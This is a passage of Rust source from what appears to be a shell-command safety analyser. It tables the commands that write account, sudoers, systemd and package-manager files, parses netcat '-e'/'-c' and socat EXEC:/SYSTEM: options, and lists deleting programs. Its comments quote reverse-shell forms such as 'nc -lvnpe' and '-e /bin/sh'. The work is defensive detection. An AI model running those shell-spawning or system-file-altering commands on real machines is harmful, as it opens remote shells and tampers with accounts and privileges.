    // `.gitmodules` names, as `npm ci` fetches what its lock names.)
    Writer {
        programs: &["git"],
        valued: GIT_SUBMODULE_VALUED,
        destination: Destination::Clone(&["submodule", "add"]),
    },
    // Other forges' and version control systems' clones: a fetched tree, as git's.
    Writer {
        programs: &["gh"],
        valued: &["-R", "--repo", "-u", "--upstream-remote-name"],
        destination: Destination::Clone(&["repo", "clone"]),
    },
    Writer {
        programs: &["hg"],
        valued: &[
            "-r",
            "--rev",
            "-b",
            "--branch",
            "-e",
            "--ssh",
            "-u",
            "--updaterev",
        ],
        destination: Destination::Clone(&["clone"]),
    },
    Writer {
        programs: &["svn"],
        valued: SVN_VALUED,
        destination: Destination::Clone(&["checkout"]),
    },
    Writer {
        programs: &["svn"],
        valued: SVN_VALUED,
        destination: Destination::Clone(&["co"]),
    },
    Writer {
        programs: &["svn"],
        valued: SVN_VALUED,
        destination: Destination::Clone(&["export"]),
    },
    Writer {
        programs: &["git"],
        valued: GIT_VALUED,
        destination: Destination::Setting {
            commands: &[&["config"]],
            reads: &[
                "--get",
                "--get-all",
                "--get-regexp",
                "--get-urlmatch",
                "--get-color",
                "--get-colorbool",
                "-l",
                "--list",
                "get",
                "list",
                "--show-origin",
                "--show-scope",
            ],
            scopes: &[("--global", "~/.gitconfig"), ("--system", "/etc/gitconfig")],
            files: &["-f", "--file"],
            default: None,
        },
    },
    Writer {
        programs: &["git"],
        valued: GIT_VALUED,
        destination: Destination::Init,
    },
    // The system's accounts: shadow-utils' and Debian's tools write the account files (a
    // `passwd` status or a list of shells only reads them).
    account_file(
        &[
            "useradd", "adduser", "usermod", "userdel", "deluser", "newusers", "chsh", "chfn",
            "vipw", "lusermod", "luseradd", "luserdel",
        ],
        &["-h", "--help", "-l", "--list-shells"],
        "/etc/passwd",
    ),
    // Passwords, and their ageing (`passwd -S` only reads; `-l` locks an account for
    // `passwd`, so `chage -l`, which only lists, is counted as a write too).
    account_file(
        &[
            "passwd", "chpasswd", "chage", "pwconv", "pwunconv", "lchage", "lpasswd",
        ],
        &["-h", "--help", "-S", "--status"],
        "/etc/shadow",
    ),
    // Groups.
    account_file(
        &[
            "groupadd",
            "groupmod",
            "groupdel",
            "addgroup",
            "delgroup",
            "gpasswd",
            "vigr",
            "chgpasswd",
            "grpconv",
            "lgroupadd",
            "lgroupdel",
            "lgroupmod",
        ],
        &["-h", "--help"],
        "/etc/group",
    ),
    // visudo(8) writes the sudoers file, or the one of `-f`; `-c` only checks it.
    Writer {
        programs: &["visudo"],
        valued: &["-f", "--file"],
        destination: Destination::Setting {
            commands: &[&[]],
            reads: &["-c", "--check", "-h", "--help", "-V", "--version"],
            scopes: &[],
            files: &["-f", "--file"],
            default: Some("/etc/sudoers"),
        },
    },
    // mount(8) puts a file system over its target (or `--target`), hiding what was there,
    // or changes how it is mounted (`-o remount,rw /`): each operand counts, as the source
    // of `--bind` may be changed through the target; umount(8) takes away each operand,
    // and every file system with `-a`.
    Writer {
        programs: &["mount"],
        valued: &[
            "-t",
            "--types",
            "-o",
            "--options",
            "-O",
            "--test-opts",
            "-L",
            "--label",
            "-U",
            "--uuid",
            "-N",
            "--namespace",
            "--source",
            "--target",
        ],
        destination: Destination::Trees(&["--target"]),
    },
    Writer {
        programs: &["umount"],
        valued: &["-t", "--types", "-O", "--test-opts", "-N", "--namespace"],
        destination: Destination::Every,
    },
    Writer {
        programs: &["umount"],
        valued: &[],
        destination: Destination::Setting {
            commands: &[&[]],
            reads: &[],
            scopes: &[("-a", "/"), ("--all", "/")],
            files: &[],
            default: None,
        },
    },
    // systemctl(1): `link`, `enable` and their kin make links to units in the system's unit
    // folder (`--user`: the home's), which start them at boot or login from then on.
    Writer {
        programs: &["systemctl"],
        valued: &[
            "-t",
            "--type",
            "-p",
            "--property",
            "-H",
            "--host",
            "-M",
            "--machine",
            "--root",
        ],
        destination: Destination::Setting {
            commands: &[
                &["link"],
                &["enable"],
                &["reenable"],
                &["preset"],
                &["preset-all"],
                &["mask"],
                &["edit"],
                &["set-property"],
                &["add-wants"],
                &["add-requires"],
                &["set-default"],
            ],
            reads: &["-h", "--help"],
            scopes: &[
                ("--user", "~/.config/systemd/user/"),
                ("--global", "/etc/systemd/user/"),
            ],
            files: &[],
            default: Some("/etc/systemd/system/"),
        },
    },
    Writer {
        programs: &["pip", "pip3"],
        valued: &[],
        destination: Destination::Setting {
            commands: &[
                &["config", "set"],
                &["config", "unset"],
                &["config", "edit"],
            ],
            reads: &[],
            scopes: &[
                ("--global", "/etc/xdg/pip/pip.conf"),
                ("--user", "~/.config/pip/pip.conf"),
            ],
            files: &[],
            default: Some("~/.config/pip/pip.conf"),
        },
    },
    Writer {
        programs: &["npm", "pnpm"],
        valued: &[],
        destination: Destination::Setting {
            commands: &[
                &["config", "set"],
                &["config", "delete"],
                &["config", "edit"],
                &["set"],
            ],
            reads: &[],
            scopes: &[("-g", "/usr/etc/npmrc"), ("--global", "/usr/etc/npmrc")],
            files: &[],
            default: Some("~/.npmrc"),
        },
    },
    // `gem sources --add URL` (`-a`, `--remove`, `--clear-all`) changes the sources every
    // later `gem install` trusts, in `~/.gemrc`; `conda config --add channels URL` (`--set`,
    // `--remove`, ...) those of `conda install`, in `~/.condarc`. Alone, both only list.
    Writer {
        programs: &["gem"],
        valued: &[],
        destination: Destination::Setting {
            commands: &[&["sources"]],
            reads: &["-l", "--list", "-u", "--update"],
            scopes: &[],
            files: &[],
            default: Some("~/.gemrc"),
        },
    },
    Writer {
        programs: &["conda", "mamba", "micromamba"],
        valued: &["--file", "--env", "-n", "--name", "-p", "--prefix"],
        destination: Destination::Setting {
            commands: &[&["config"]],
            reads: &[
                "--show",
                "--show-sources",
                "--get",
                "--describe",
                "--validate",
            ],
            scopes: &[("--system", "/opt/conda/.condarc")],
            files: &["--file"],
            default: Some("~/.condarc"),
        },
    },
    Writer {
        programs: &["npm", "pnpm"],
        valued: &[],
        destination: Destination::Setting {
            commands: &[&["pkg", "set"], &["pkg", "delete"], &["pkg", "fix"]],
            reads: &[],
            scopes: &[],
            files: &[],
            default: Some("package.json"),
        },
    },
    Writer {
        programs: &["ssh-keygen"],
        valued: &[
            "-f", "-t", "-b", "-C", "-N", "-P", "-Z", "-O", "-n", "-I", "-V", "-z", "-a", "-E",
            "-m", "-s", "-h", "-D", "-F", "-R", "-w", "-Y",
        ],
        destination: Destination::Confirmed(&["-f"]),
    },
    // xxd(1): `xxd [options] [infile [outfile]]`, with `-r` too.
    Writer {
        programs: &["xxd"],
        valued: &[
            "-c",
            "-cols",
            "-g",
            "-groupsize",
            "-l",
            "-len",
            "-o",
            "-offset",
            "-s",
            "-seek",
            "-n",
            "-name",
        ],
        destination: Destination::After(1),
    },
    // gawk(1): the `inplace` extension writes each file back.
    Writer {
        programs: &["gawk", "awk"],
        valued: AWK_VALUED,
        destination: Destination::Included(&["inplace", "inplace.awk"]),
    },
    Writer {
        programs: &["sed", "gsed"],
        valued: &["-e", "--expression", "-f", "--file", "-l", "--line-length"],
        destination: Destination::InPlace(&["-i", "--in-place"]),
    },
    // The database dump tools write the dump to the file their option names (pg_dump(1)
    // `-f`, mysqldump(1) `-r`, mongodump's `--archive=FILE`, `redis-cli --rdb FILE`).
    Writer {
        programs: &["pg_dump", "pg_dumpall"],
        valued: &[
            "-h",
            "--host",
            "-p",
            "--port",
            "-U",
            "--username",
            "-d",
            "--dbname",
            "-f",
            "--file",
        ],
        destination: Destination::Options(&["-f", "--file"]),
    },
    Writer {
        programs: &["mysqldump", "mariadb-dump"],
        valued: &[
            "-h",
            "--host",
            "-P",
            "--port",
            "-u",
            "--user",
            "-r",
            "--result-file",
        ],
        destination: Destination::Options(&["-r", "--result-file"]),
    },
    Writer {
        programs: &["mongodump"],
        valued: &[
            "--uri",
            "--host",
            "--port",
            "-u",
            "--username",
            "-d",
            "--db",
            "--archive",
        ],
        destination: Destination::Options(&["--archive"]),
    },
    Writer {
        programs: &["redis-cli", "valkey-cli", "keydb-cli"],
        valued: &["-h", "-p", "-a", "-n", "-u", "--rdb"],
        destination: Destination::Options(&["--rdb"]),
    },
    // yq (mikefarah's and the jq wrapper alike): `-i` writes each file after the
    // expression back.
    Writer {
        programs: &["yq"],
        valued: &[
            "-o",
            "--output-format",
            "-p",
            "--input-format",
            "-I",
            "--indent",
        ],
        destination: Destination::InPlace(&["-i", "--inplace", "--in-place"]),
    },
    Writer {
        programs: &["sed", "gsed"],
        valued: &["-e", "--expression", "-f", "--file", "-l", "--line-length"],
        destination: Destination::SedScript,
    },
];

/// svn's options that take the next word as their value
const SVN_VALUED: &[&str] = &["-r", "--revision", "--depth", "--username", "--password"];

/// The rows of `program` in [`WRITERS`]; a name with a version after it (`python3.12`,
/// `gpg2`) is the program's
pub(crate) fn writers(program: &str) -> impl Iterator<Item = &'static Writer> + '_ {
    let unversioned = program.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
    static BY_NAME: ByName = LazyLock::new(|| by_name::index(WRITERS, |row| row.programs));
    // Most names carry no version: their rows are found in order, with nothing to merge.
    let alone = (unversioned == program || unversioned.is_empty())
        .then(|| by_name::rows(WRITERS, &BY_NAME, program));
    let merged = alone.is_none().then(|| {
        let mut positions: Vec<usize> = [program, unversioned]
            .into_iter()
            .filter(|name| !name.is_empty())
            .flat_map(|name| by_name::positions(&BY_NAME, name))
            .collect();
        positions.sort_unstable();
        positions.dedup();
        positions.into_iter().filter_map(|at| WRITERS.get(at))
    });
    alone
        .into_iter()
        .flatten()
        .chain(merged.into_iter().flatten())
}

/// What an address of socat(1) opens (ADDRESS TYPES)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SocatOpens {
    /// A file, read or written as the side of the transfer it stands on says
    File,
    /// A file created and written
    Created,
    /// A socket with a name in the file system
    Socket,
    /// A command line `/bin/sh -c` runs
    CommandLine,
    /// A program run with the words after it
    Program,
}

/// socat's address types that name a file or run a command, compared without case
const SOCAT_ADDRESSES: &[(&str, SocatOpens)] = &[
    ("open", SocatOpens::File),
    ("gopen", SocatOpens::File),
    ("file", SocatOpens::File),
    ("pipe", SocatOpens::File),
    ("create", SocatOpens::Created),
    ("creat", SocatOpens::Created),
    ("unix-connect", SocatOpens::Socket),
    ("unix-listen", SocatOpens::Socket),
    ("unix-sendto", SocatOpens::Socket),
    ("unix-recvfrom", SocatOpens::Socket),
    ("unix-recv", SocatOpens::Socket),
    ("unix-client", SocatOpens::Socket),
    ("unix", SocatOpens::Socket),
    ("local", SocatOpens::Socket),
    ("system", SocatOpens::CommandLine),
    ("shell", SocatOpens::CommandLine),
    ("exec", SocatOpens::Program),
];

/// Builtins that run code in the running shell, so the assignments before them hold for
/// that code, as they would for a function (bash(1), SHELL GRAMMAR, Simple Commands, and
/// `eval`, `.`): `IFS=@ eval 'x=a@b; $x'`
const IN_THIS_SHELL: &[&str] = &["eval", "source", "."];

/// Whether `program` is a builtin that runs code in the running shell ([`IN_THIS_SHELL`])
pub(crate) fn runs_code_in_this_shell(program: &str) -> bool {
    IN_THIS_SHELL.contains(&program)
}

/// Programs whose only option is their first word, a signal (`kill -9`, `kill -s TERM`,
/// kill(1), bash's `help kill`): a negative number after it is a process group, and `-1`
/// every process the user may signal
pub(crate) const SIGNAL_FIRST: &[&str] = &["kill"];

/// Whether `word` is a process or group id as `kill` takes one: digits, after a `-` or not
pub(crate) fn is_process_number(word: &str) -> bool {
    let digits = word.strip_prefix('-').unwrap_or(word);
    !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
}

/// The netcats, whose `-e`/`-c` run a program or a command line with the connection as
/// its input and output: traditional netcat's `-e FILE` and `-c COMMAND` (nc.traditional(1)),
/// ncat's `-e`/`--exec` and `-c`/`--sh-exec` (ncat(1)), BusyBox's `-e PROG`. OpenBSD's `-c`
/// takes no value (CRLF line ends); it is read as the traditional one, which only costs
/// precision.
pub(crate) const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// The short options of the netcats that take no value, as a cluster before `-e`/`-c` may
/// hold them (`nc -lvnpe`, `-p` excepted: it takes the port)
const NETCAT_SWITCHES: &str = "46bCdDhklnNrStuUvz";

/// What a netcat's `-e`/`-c` option runs with the connection as its input
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum NetcatRun {
    /// A program and its words (`-e`, `--exec`), split at blanks as ncat does
    Exec(Vec<String>),
    /// A command line `/bin/sh` runs (`-c`, `--sh-exec`)
    Script(String),
}

/// What `nc`'s words `args` make it run with the connection as its input: the values of
/// `-e`/`--exec`/`--lua-exec` (a program) and `-c`/`--sh-exec` (a command line), alone
/// (`-e /bin/sh`), glued (`-e/bin/sh`, `--exec=sh`) or ending a cluster of switches
/// (`-lvnpe`'s `p` excepted, `-nve sh`)
pub(crate) fn netcat_runs(args: &[String]) -> Vec<NetcatRun> {
    let mut found = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if arg == "--" {
            break;
        }
        let (kind, glued) = if let Some((name, value)) = arg.split_once('=') {
            match name {
                "--exec" | "--lua-exec" => ('e', Some(value)),
                "--sh-exec" => ('c', Some(value)),
                _ => continue,
            }
        } else {
            match arg.as_str() {
                "--exec" | "--lua-exec" => ('e', None),
                "--sh-exec" => ('c', None),
                _ => {
                    let Some(cluster) = arg.strip_prefix('-').filter(|rest| !rest.starts_with('-'))
                    else {
                        continue;
                    };
                    let Some(at) = cluster.find(['e', 'c']) else {
                        continue;
                    };
                    let (switches, rest) = cluster.split_at(at);
                    if !switches
                        .chars()
                        .all(|switch| NETCAT_SWITCHES.contains(switch))
                    {
                        continue;
                    }
                    let kind = if rest.starts_with('e') { 'e' } else { 'c' };
                    let value = rest.get(1..).filter(|value| !value.is_empty());
                    (kind, value)
                }
            }
        };
        let Some(value) = glued.or_else(|| words.next().map(String::as_str)) else {
            break;
        };
        found.push(if kind == 'e' {
            NetcatRun::Exec(value.split_whitespace().map(str::to_owned).collect())
        } else {
            NetcatRun::Script(value.to_owned())
        });
    }
    found
}

/// socat's options that take the next word as their value
const SOCAT_VALUED: &[&str] = &[
    "-b", "-t", "-T", "-lf", "-lp", "-lm", "-L", "-W", "-r", "-R", "-S",
];

/// The address options of socat that open a file for writing, whatever side it stands on
const SOCAT_WRITING: &[&str] = &["creat", "create", "trunc", "append", "wronly", "rdwr"];

/// What one address of a `socat` command names
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum SocatAddress {
    /// A file or a socket's name, and whether socat writes it
    Path { path: String, written: bool },
    /// A command line a shell runs (`SYSTEM:`)
    Script(String),
    /// A program and its words (`EXEC:`), split at blanks
    Exec(Vec<String>),
}

/// What the two addresses of `socat [options] ADDRESS ADDRESS` name: a file (`OPEN:`,
/// `GOPEN:`, `CREATE:`, `PIPE:`, a bare path with a `/`), written when socat writes to its
/// side (the second with `-u`, the first with `-U`, both without) or an option opens it
/// for writing, a socket's name, a command line (`SYSTEM:`) or a program (`EXEC:`). A dual
/// address (`A!!B`) reads from one and writes to the other; options follow a comma
pub(crate) fn socat_addresses(args: &[String]) -> Vec<SocatAddress> {
    let mut addresses = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if SOCAT_VALUED.contains(&arg.as_str()) {
            words.next();
        } else if arg == "-" || !arg.starts_with('-') {
            addresses.push(arg.as_str());
        }
    }
    let unidirectional = args.iter().any(|arg| arg == "-u");
    let reverse = args.iter().any(|arg| arg == "-U");
    let mut found = Vec::new();
    for (side, address) in addresses.iter().take(2).enumerate() {
        let written_side = match (unidirectional, reverse) {
            (true, _) => side == 1,
            (_, true) => side == 0,
            _ => true,
        };
        let halves: Vec<&str> = address.split("!!").collect();
        for (half, part) in halves.iter().enumerate() {
            // Of `READ!!WRITE`, the second half is the one written.
            let written = written_side && (halves.len() == 1 || half == 1);
            found.extend(socat_address(part, written));
        }
    }
    found
}

/// What the socat address that starts with `address` opens, and the text after its type
/// (`/etc/x` of `CREATE:/etc/x`); a bare name with a `/` is a file (`GOPEN`)
pub(crate) fn socat_opens(address: &str) -> Option<(SocatOpens, &str)> {
    match address.split_once(':') {
        Some((kind, value)) => {
            let kind = kind.to_ascii_lowercase();
            let (_, opens) = SOCAT_ADDRESSES.iter().find(|(name, _)| *name == kind)?;
            Some((*opens, value))
        }
        None if address.contains('/') => Some((SocatOpens::File, address)),
        None => None,
    }
}

/// What one address names, given whether its side is written
fn socat_address(address: &str, written_side: bool) -> Option<SocatAddress> {
    let (head, options) = address.split_once(',').unwrap_or((address, ""));
    let (kind, value) = socat_opens(head)?;
    let writing = options
        .split(',')
        .any(|option| SOCAT_WRITING.contains(&option.to_ascii_lowercase().as_str()));
    let read_only = options
        .split(',')
        .any(|option| option.eq_ignore_ascii_case("rdonly"));
    match kind {
        SocatOpens::CommandLine => Some(SocatAddress::Script(value.to_owned())),
        SocatOpens::Program => Some(SocatAddress::Exec(
            value.split_whitespace().map(str::to_owned).collect(),
        )),
        _ if value.is_empty() => None,
        SocatOpens::Created => Some(SocatAddress::Path {
            path: value.to_owned(),
            written: true,
        }),
        SocatOpens::File => Some(SocatAddress::Path {
            path: value.to_owned(),
            written: writing || (written_side && !read_only),
        }),
        SocatOpens::Socket => Some(SocatAddress::Path {
            path: value.to_owned(),
            written: false,
        }),
    }
}

/// How bash takes the value of a builtin's option as code
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Evaluation {
    /// A command line bash runs with words of its own after it: `mapfile -C CALLBACK` (the
    /// index and the line read), `compgen -C COMMAND` (the command's name, the word and the
    /// word before it), `fc -e EDITOR` (the file of commands, which it then runs)
    Script,
    /// `KEYSEQ: COMMAND`, the command readline runs when the keys are typed (`bind -x`; a
    /// later `read -e` on a terminal, or an interactive shell)
    KeyBinding,
    /// Words bash splits and expands again, substitutions included (`compgen -W`)
    Expanded,
    /// A shared object whose code bash loads and runs (`enable -f`)
    Loaded,
}

/// A bash builtin: its short options that take a value, as its getopt reads them (its
/// `help` synopsis), and those whose value bash takes as code
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Builtin {
    /// The builtin's names
    pub(crate) names: &'static [&'static str],
    /// Its short options that take a value, glued (`-Ccb`) or the next word
    pub(crate) valued: &'static str,
    /// The options whose value is code, and how bash takes it
    pub(crate) code: &'static [(char, Evaluation)],
}

/// The builtins whose options the reader reads, one row each. `complete -C`, `-F` and `-W`
/// are not rows: readline runs them only to complete a word typed at an interactive prompt,
/// never while a shell runs a command line, and `compgen`, which runs them now, is.
pub(crate) const BUILTINS: &[Builtin] = &[
    Builtin {
        names: &["read"],
        valued: "adinNptu",
        code: &[],
    },
    Builtin {
        names: &["printf"],
        valued: "v",
        code: &[],
    },
    Builtin {
        names: &["mapfile", "readarray"],
        valued: "dnOsuCc",
        code: &[('C', Evaluation::Script)],
    },
    Builtin {
        names: &["compgen"],
        valued: "oAGWFCXPS",
        code: &[('C', Evaluation::Script), ('W', Evaluation::Expanded)],
    },
    Builtin {
        names: &["bind"],
        valued: "mfqurx",
        code: &[('x', Evaluation::KeyBinding)],
    },
    Builtin {
        names: &["fc"],
        valued: "e",
        code: &[('e', Evaluation::Script)],
    },
    Builtin {
        names: &["enable"],
        valued: "f",
        code: &[('f', Evaluation::Loaded)],
    },
    Builtin {
        names: &["hash"],
        valued: "p",
        code: &[],
    },
    Builtin {
        names: &["getopts"],
        valued: "",
        code: &[],
    },
];

/// Which of bash's tables of names an associative array is
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum NameTable {
    /// The aliases, as `alias NAME=VALUE` defines them
    Aliases,
    /// The table of `hash`, as `hash -p FILE NAME` binds a name to a file
    Hashed,
}

/// bash's associative arrays whose elements are its tables of names (bash(1), Shell
/// Variables): setting `BASH_ALIASES[NAME]=VALUE` defines an alias as `alias` does, and
/// `BASH_CMDS[NAME]=FILE` binds a name as `hash -p` does
pub(crate) const NAME_TABLES: &[(&str, NameTable)] = &[
    ("BASH_ALIASES", NameTable::Aliases),
    ("BASH_CMDS", NameTable::Hashed),
];

/// The table of names the array `name` is, if it is one of [`NAME_TABLES`]
pub(crate) fn name_table(name: &str) -> Option<NameTable> {
    NAME_TABLES
        .iter()
        .find(|(array, _)| *array == name)
        .map(|(_, table)| *table)
}

/// A builtin's options with their values (empty for a flag), and its operands
pub(crate) type BuiltinWords<'a> = (Vec<(char, &'a str)>, Vec<&'a str>);

/// The options of the builtin `program` with their values, and its operands, as its getopt
/// reads `args`; `None` when it is no row of [`BUILTINS`]
pub(crate) fn builtin_options<'a>(program: &str, args: &'a [String]) -> Option<BuiltinWords<'a>> {
    let row = BUILTINS.iter().find(|row| row.names.contains(&program))?;
    let mut options = Vec::new();
    let mut operands = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        let Some(cluster) = arg.strip_prefix('-').filter(|rest| !rest.is_empty()) else {
            operands.push(arg.as_str());
            continue;
        };
        if cluster == "-" {
            operands.extend(words.by_ref().map(String::as_str));
            break;
        }
        for (start, letter) in cluster.char_indices() {
            if !row.valued.contains(letter) {
                options.push((letter, ""));
                continue;
            }
            let glued = cluster.get(start + letter.len_utf8()..).unwrap_or_default();
            let value = if glued.is_empty() {
                words.next().map(String::as_str)
            } else {
                Some(glued)
            };
            options.extend(value.map(|value| (letter, value)));
            break;
        }
    }
    Some((options, operands))
}

/// The values of the builtin `program`'s options that bash takes as code, and how
pub(crate) fn builtin_code<'a>(program: &str, args: &'a [String]) -> Vec<(Evaluation, &'a str)> {
    let Some(row) = BUILTINS.iter().find(|row| row.names.contains(&program)) else {
        return Vec::new();
    };
    let Some((options, _)) = builtin_options(program, args) else {
        return Vec::new();
    };
    options
        .into_iter()
        .filter_map(|(letter, value)| {
            row.code
                .iter()
                .find(|(option, _)| *option == letter)
                .map(|(_, evaluation)| (*evaluation, value))
        })
        .collect()
}

/// The command of a readline binding `KEYSEQ: COMMAND` (`bind -x`): after the key sequence,
/// bare or in double quotes, and the `:`, without the quotes around it
pub(crate) fn bound_command(binding: &str) -> Option<&str> {
    let rest = match binding.strip_prefix('"') {
        Some(quoted) => {
            let mut chars = quoted.char_indices();
            let mut end = None;
            while let Some((at, ch)) = chars.next() {
                match ch {
                    '\\' => {
                        chars.next();
                    }
                    '"' => {
                        end = Some(at);
                        break;
                    }
                    _ => {}
                }
            }
            quoted.get(end? + 1..)?
        }
        None => binding.get(binding.find(':')?..)?,
    };
    let command = rest.trim_start().strip_prefix(':')?.trim();
    let unquoted = ['"', '\'']
        .iter()
        .find_map(|quote| command.strip_prefix(*quote)?.strip_suffix(*quote));
    Some(unquoted.unwrap_or(command))
}

/// The variables a builtin sets to what only run time knows, by the names its words give
/// (bash(1), Shell Builtin Commands): `read NAME…` (and `-a NAME`; `REPLY` without one),
/// `printf -v NAME`, `mapfile NAME`/`readarray NAME` (`MAPFILE` without one), `getopts
/// OPTSTRING NAME` (and `OPTARG`, `OPTIND`), and the names `let`'s expressions assign
pub(crate) fn variables_set<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
    // The options whose value is a name set.
    let naming = match program {
        "read" => 'a',
        "printf" => 'v',
        "mapfile" | "readarray" | "getopts" => ' ',
        "let" => {
            return args
                .iter()
                .flat_map(|arg| crate::arithmetic::assigned_names(arg))
                .collect()
        }
        _ => return Vec::new(),
    };
    let Some((options, operands)) = builtin_options(program, args) else {
        return Vec::new();
    };
    let mut names: Vec<&str> = options
        .into_iter()
        .filter(|(letter, _)| *letter == naming)
        .map(|(_, value)| value)
        .collect();
    match program {
        // `printf`'s operands are its format and arguments.
        "printf" => {}
        "mapfile" | "readarray" if operands.is_empty() && names.is_empty() => {
            names.push("MAPFILE");
        }
        "mapfile" | "readarray" => names.extend(operands.last()),
        "getopts" => names.extend(operands.get(1).into_iter().chain(&["OPTARG", "OPTIND"])),
        _ if operands.is_empty() && names.is_empty() => names.push("REPLY"),
        _ => names.extend(operands),
    }
    names
}

/// The module a Python command runs as a program (`python3 -I -m zipfile …`) and the words
/// after it; `None` when it runs a script, code (`-c`) or its input instead
pub(crate) fn python_module(args: &[String]) -> Option<(&str, &[String])> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let cluster = arg.strip_prefix('-').filter(|rest| !rest.is_empty())?;
        if let Some(long) = cluster.strip_prefix('-') {
            // `--check-hash-based-pycs MODE` is the one long option that takes a value.
            at += if long == "check-hash-based-pycs" {
                2
            } else {
                1
            };
            continue;
        }
        at += 1;
        for (start, letter) in cluster.char_indices() {
            let rest = cluster.get(start + letter.len_utf8()..).unwrap_or_default();
            match letter {
                'm' if rest.is_empty() => {
                    let module = args.get(at)?;
                    return Some((module, args.get(at + 1..).unwrap_or_default()));
                }
                'm' => return Some((rest, args.get(at..).unwrap_or_default())),
                'c' => return None,
                // `-W arg` and `-X opt` take the rest of the word, or the next one.
                'W' | 'X' => {
                    at += usize::from(rest.is_empty());
                    break;
                }
                _ => {}
            }
        }
    }
    None
}

/// The flags with which gzip(1) and gunzip keep each file: `-k`, or writing to the standard
/// output, or only testing or listing it
const GZIP_KEEPS: &[&str] = &[
    "-k",
    "--keep",
    "-c",
    "--stdout",
    "--to-stdout",
    "-t",
    "--test",
    "-l",
    "--list",
];

/// The flags with which bzip2(1) and bunzip2 keep each file
const BZIP2_KEEPS: &[&str] = &["-k", "--keep", "-c", "--stdout", "-t", "--test"];

/// The flags with which xz(1) and its other names keep each file
const XZ_KEEPS: &[&str] = &[
    "-k",
    "--keep",
    "-c",
    "--stdout",
    "--to-stdout",
    "-t",
    "--test",
    "-l",
    "--list",
];

/// xz(1)'s options that take the next word as their value
const XZ_VALUED: &[&str] = &[
    "-S",
    "--suffix",
    "-F",
    "--format",
    "-C",
    "--check",
    "-T",
    "--threads",
    "-M",
    "--memlimit",
];

/// The flags with which zstd(1) keeps each file even with `--rm`
const ZSTD_KEEPS: &[&str] = &[
    "-k", "--keep", "-c", "--stdout", "-t", "--test", "-l", "--list",
];

/// zstd(1)'s options that take the next word as their value
const ZSTD_VALUED: &[&str] = &["-o", "-D"];

/// The flags with which lz4(1) keeps each file even with `--rm`
const LZ4_KEEPS: &[&str] = &["-k", "--keep", "-c", "--stdout", "-t", "--test"];

/// The flags with which brotli(1) keeps each file even with `--rm` (`-j`)
const BROTLI_KEEPS: &[&str] = &["-k", "--keep", "-c", "--stdout", "-t", "--test"];

/// The flags with which lzop(1) keeps each file even with `--delete` (`-U`): gzip's, whose
/// options lzop takes
const LZOP_KEEPS: &[&str] = GZIP_KEEPS;

/// A program that deletes files its words name, read as the `rm` it stands for
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Deleter {
    /// The program
    pub(crate) program: &'static str,
    /// The words that select deleting, after the program's options (`cmake -E rm`);
    /// empty when the program always deletes
    pub(crate) verbs: &'static [&'static str],
    /// Options without which it does not delete (`shred -u`, `tar --remove-files`); empty
    /// when it always does
    pub(crate) when: &'static [&'static str],
    /// Options with which it does not delete (`gzip -k`, `gzip -c`)
    pub(crate) unless: &'static [&'static str],
    /// Options taking a value, whose value is no operand deleted (`tar -f ARCHIVE`)
    pub(crate) valued: &'static [&'static str],
    /// The flags of the `rm` it stands for
    pub(crate) as_rm: &'static [&'static str],
    /// Options naming the folder the operands go to; without one, the last operand is that
    /// place, and not deleted (`mv a b`: `a` is gone from its place, `b` is written)
    pub(crate) moved_to: Option<&'static [&'static str]>,
    /// Options naming the folder the operands after them are relative to (`tar -C DIR`),
    /// each relative to the one before
    pub(crate) relative_to: &'static [&'static str],
}

/// Every program read as the `rm` it stands for, one row each
pub(crate) const DELETERS: &[Deleter] = &[
    Deleter {
        program: "mv",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        as_rm: &[],
        moved_to: Some(&["-t", "--target-directory"]),
        relative_to: &[],
    },
    // rimraf(1) `--help`: every option is a flag (`-g`/`--glob`, `--preserve-root`), or
    // takes its value glued (`--impl=native`).
    Deleter {
        program: "rimraf",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    // del-cli's options are flags; its other name, `del`, is a word of too many
    // programs' own (`etcdctl del`) to be read as a deleter after an unlisted program.
    Deleter {
        program: "del-cli",
        verbs: &[],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "cmake",
        verbs: &["-E", "rm"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "cmake",
        verbs: &["-E", "remove_directory"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "cmake",
        verbs: &["-E", "remove"],
        when: &[],
        unless: &[],
        valued: &[],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "shred",
        verbs: &[],
        when: &[
            "-u",
            "--remove",
            "--remove=unlink",
            "--remove=wipe",
            "--remove=wipesync",
        ],
        unless: &[],
        valued: &["-n", "--iterations", "-s", "--size", "--random-source"],
        as_rm: &["-f"],
        moved_to: None,
        relative_to: &[],
    },
    Deleter {
        program: "tar",
        verbs: &[],
        when: &["--remove-files"],
        unless: &[],
        valued: &[
            "-f",
            "--file",
            "-C",
            "--directory",
            "-T",
            "--files-from",
            "-X",
            "--exclude-from",
        ],
        as_rm: &["-r", "-f"],
        moved_to: None,
        relative_to: &["-C", "--directory"],
    },
    // rsync(1) `--remove-source-files` deletes what it sent: every operand but the last.
    Deleter {
        program: "rsync",
        verbs: &[],
        when: &["--remove-source-files"],
